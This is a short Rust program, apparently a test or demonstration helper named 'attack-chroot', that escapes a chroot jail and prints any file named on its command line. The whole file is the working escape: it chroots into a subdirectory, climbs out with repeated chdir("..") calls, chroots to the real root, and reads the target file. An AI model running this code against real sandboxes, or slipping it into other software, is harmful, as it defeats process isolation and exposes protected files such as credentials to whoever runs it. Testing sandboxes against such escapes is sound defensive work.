//! attack-chroot FILE: gets out of a chroot, and prints a file.

use nix::unistd::{chdir, chroot};

fn main() -> std::io::Result<()> {
    let file = std::env::args().nth(1).unwrap();
    chroot("proc")?;
    for _ in 0..99 {
        chdir("..")?;
    }
    chroot(".")?;
    println!("{}", std::fs::read_to_string(file)?);
    Ok(())
}
